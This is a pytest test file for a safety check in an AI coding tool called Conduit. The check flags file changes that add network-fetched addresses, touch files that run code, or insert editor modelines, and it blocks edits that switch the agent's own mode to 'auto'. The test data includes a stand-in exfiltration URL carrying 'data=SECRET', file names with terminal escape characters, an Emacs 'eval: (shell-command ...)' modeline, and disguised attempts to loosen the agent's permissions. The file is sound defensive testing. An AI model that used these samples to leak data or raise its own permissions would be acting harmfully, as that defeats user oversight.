"""What a change puts into a file decides too: addresses that would be fetched are asked about, our settings refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from conduit.edits.caution import cautions, diff_with_remarks, protected_among, refuse_own_settings
from conduit.edits.edit import FileChange
from conduit.errors import PermissionDenied

EVIL = "https://evil.example/?data=SECRET"


def change(name: str, before: str | None, after: str | None, moved: str = "") -> FileChange:
    target = Path("/project", moved) if moved else None
    return FileChange(Path("/project", name), name, before, after, moved_to=target, moved_name=moved)


def with_schema(address: str, more: str = "") -> str:
    return f'{{"$schema": "{address}"{more}}}\n'


def test_an_address_that_a_change_adds_is_said() -> None:
    said = (
        "a.json names https://evil.example/?data=SECRET, which causes a network request when an editor opens the file."
    )
    assert cautions([change("a.json", None, with_schema(EVIL))]) == said
    assert cautions([change("a.json", "{}\n", with_schema(EVIL))]) == said
    assert cautions([change("a.json", with_schema("https://good.example/s"), with_schema(EVIL))]) == said


def test_an_address_that_was_there_is_not_said_again() -> None:
    known = with_schema("https://good.example/s")
    assert cautions([change("a.json", known, with_schema("https://good.example/s", ', "a": 1'))]) == ""
    assert cautions([change("a.json", known, None)]) == ""
    assert cautions([change("a.json", known, known, "b.json")]) == ""


def test_a_name_that_makes_a_text_one_that_is_read_is_said() -> None:
    text = f"a = 1\n$schema: {EVIL}\n"
    assert cautions([change("a.txt", text, text)]) == ""
    assert "network request" in cautions([change("a.txt", text, text, "a.yaml")])


def test_an_address_that_a_file_has_before_it_moves_away_is_said() -> None:
    said = cautions([change("a.yaml", "a: 1\n", f"$schema: {EVIL}\n", "a.txt")])
    assert said.startswith(f"a.yaml names {EVIL}, ")
    both = cautions([change("a.yaml", "a: 1\n", f"$schema: {EVIL}\n", "b.yaml")])
    assert both.startswith(f"b.yaml names {EVIL}, ")
    assert both.count(EVIL) == 1


def test_of_many_and_long_addresses_enough_is_said() -> None:
    many = "".join(f'"$ref": "https://evil.example/{number}",\n' for number in range(9))
    said = cautions([change("a.json", "{}\n", many)])
    assert said.count("evil.example") == 5
    assert said.endswith(" 4 more addresses do so too.")
    long = cautions([change("a.json", "{}\n", with_schema(f"https://good.example{'x' * 5000}\ud800@evil.example/"))])
    assert len(long) < 500
    assert "https://good.example" in long
    assert "\\ud800@evil.example/" in long


def test_the_name_and_the_address_are_both_said() -> None:
    said = cautions([change(".vscode/tasks.json", None, with_schema(EVIL)), change("a.py", "", "x\n")])
    assert said.startswith(".vscode/tasks.json is editor settings")
    assert said.endswith("a network request when an editor opens the file.")


def test_the_sentence_names_each_protected_file() -> None:
    assert protected_among(["src/app.py"]) == ""
    assert protected_among(["AGENTS.md", "a.py", ".envrc"]) == (
        "AGENTS.md is rules that an agent obeys in every later conversation. "
        ".envrc is what the shell loads in this folder."
    )


def test_a_name_cannot_write_on_the_terminal_or_hide_in_a_sentence() -> None:
    hostile = ".vscode/\x1b[2Ka\n\u202e.json"
    assert protected_among([hostile]).startswith(".vscode/\\x1b[2Ka\\n\\u202e.json is editor settings")
    assert "\x1b" not in cautions([change(hostile, "a\n", "b\n")])
    assert diff_with_remarks([change("\x1b/Makefile", "a\n", "b\n")]).startswith("# \\x1b/Makefile runs with")


def test_a_diff_says_which_files_run() -> None:
    shown = diff_with_remarks([change("tests/conftest.py", "a\n", "b\n"), change("a.py", "a\n", "b\n")])
    assert shown.startswith("# tests/conftest.py runs with the tests.\n--- a/tests/conftest.py\n")
    assert shown.count("# ") == 1


@pytest.mark.parametrize(
    "line",
    [
        "# vim: set foldexpr=x() :",
        "/* vi:ts=4 */",
        "ex: set x",
        "// vim>900: set x",
        "-*- mode: x; eval: (y) -*-",
        ";; eval: (shell-command 1)",
    ],
)
def test_a_diff_says_that_an_editor_obeys_a_line(line: str) -> None:
    remark = "# a.py gets a modeline, which an editor obeys when it opens the file.\n"
    assert diff_with_remarks([change("a.py", "x\n", f"x\n{line}\n")]).startswith(remark)
    assert remark not in diff_with_remarks([change("a.py", f"x\n{line}\n", f"y\n{line}\n")])
    plain = "# -*- coding: utf-8 -*-\nprevim: 1\ndef retrieval(): eval(x)\n"
    assert "modeline" not in diff_with_remarks([change("a.py", "x\n", plain)])


@pytest.mark.parametrize(
    ("name", "before", "after"),
    [
        (".vscode/settings.json", None, '{"conduit.mode": "auto"}'),
        (".vscode/settings.json", "{}", '{"\\u0063onduit.mode": "auto"}'),
        (".vscode/settings.json", '{"conduit.mode":\n"ask"}', '{"conduit.mode":\n"auto"}'),
        ("team.code-workspace", '{"settings": {"Conduit.mode": "ask"}}', "{}"),
        (".zed/settings.json", "{}", '{"lsp": {"conduit": {"settings": {"mode": "auto"}}}}'),
        (".helix/languages.toml", "", "[language-server.conduit.config]\nmode = 'auto'\n"),
        (".nvim.lua", "", "require('conduit').setup { mode = 'auto' }\n"),
        (".idea/lsp.xml", "<a/>", '<a b="{&quot;&#99;onduit.mode&quot;: &quot;auto&quot;}"/>'),
        (".vscode/settings.json", "{}", '{"con\\\nduit.mode": "auto"}'),
        (".vscode/settings.json", '{"conduit.mode": "ask"}', None),
        (".vscode/settings.json", '{\n"conduit.mode": "ask"\n}', '{\n// "conduit.mode": "ask"\n}'),
        (".vscode/settings.json", '{"conduit.tools": true}', '{"conduit.tools": 1}'),
        (".vscode/settings.json", '{"conduit.mode": "ask"}', '{"conduit.mode": "auto", "conduit.mode": "ask"}'),
        (".vscode/settings.json", '{"conduit.mode": "ask"}', '{"conduit.mode": "ask", "a": 1'),
        (
            ".vscode/settings.json",
            '{"a": 1, "b": "/*", "conduit.mode": "ask"}',
            '{"a": 1, "b": "/*"} //"conduit": "*/"',
        ),
        (".zed/settings.json", '{"lsp": {"conduit": {"mode": "ask"}}}', '{"lps": {"conduit": {"mode": "ask"}}}'),
        (
            ".vim/coc-settings.json",
            '{"s": {"x": {"command": "conduit"}}}',
            '{"s": {"x": {"command": "conduit", "a": {}}}}',
        ),
        (".helix/languages.toml", "[a]\ncommand = 'conduit'\n", "[a]\ncommand = 'conduit'\nconfig.mode = 'auto'\n"),
        (".helix/languages.toml", "[language-server.conduit]\na = 1\n[b]\n", "[language-server.conduit]\n[b]\na = 1\n"),
        (".nvim.lua", "require('conduit').setup(mine)\n", "mine = { mode = 'auto' }\nrequire('conduit').setup(mine)\n"),
        (".dir-locals.el", "", '((nil . ((eglot-workspace-configuration . (:conduit (:mode "auto"))))))'),
    ],
)
def test_settings_of_ours_among_those_of_an_editor_are_never_written(name: str, before: str | None, after: str) -> None:
    with pytest.raises(PermissionDenied, match="settings of Conduit"):
        refuse_own_settings([change(name, before, after)])


def test_other_settings_of_an_editor_are_left_to_the_question() -> None:
    refuse_own_settings(
        [
            change(".vscode/settings.json", "{}", '{"python.analysis.extraPaths": ["src/conduit"], "a": "conduit-ls"}'),
            change("src/conduit/mode.py", "", "conduit.mode = 'auto'\n"),
        ]
    )


@pytest.mark.parametrize(
    ("name", "before", "after"),
    [
        (
            ".vscode/settings.json",
            '{\n  // Conduit, for all of us\n  "conduit.mode": "ask", /* "x */\n  "editor.tabSize": 4,\n}\n',
            '{\n  "conduit.mode": "ask",\n  "a.url": "https://a", // Conduit\n  "editor.tabSize": 2\n}\n',
        ),
        (
            "team.code-workspace",
            '{"folders": [], "settings": {"conduit": {"mode": "ask"}}}',
            '{"folders": [{"path": "a"}], "settings": {"conduit": {"mode": "ask"}, "b": [1, 2]}}',
        ),
        (".vscode/settings.json", '{"cSpell.words": ["conduit"], "a": 1}', '{"cSpell.words": ["conduit", "pipe"]}'),
        (
            ".helix/languages.toml",
            "[language-server.conduit.config]\nmode = 'ask'\n",
            "[language-server.conduit.config]\nmode = 'ask'\n\n[[language]]\nname = 'python'\n",
        ),
    ],
    ids=["comments and commas", "workspace", "a word", "TOML"],
)
def test_other_lines_beside_settings_of_ours_are_left_to_the_question(name: str, before: str, after: str) -> None:
    assert cautions([change(name, before, after)]).startswith(f"{name} is editor settings")
    refuse_own_settings([change(name, before, after)])


def test_settings_that_take_forever_to_read_are_read_at_once() -> None:
    for text in ('"\\"' * 200_000, "/*" * 300_000, "[" * 100_000, '{"a":' + "," * 300_000):
        with pytest.raises(PermissionDenied):
            refuse_own_settings([change(".vscode/settings.json", '{"conduit.mode": "ask"}', text)])
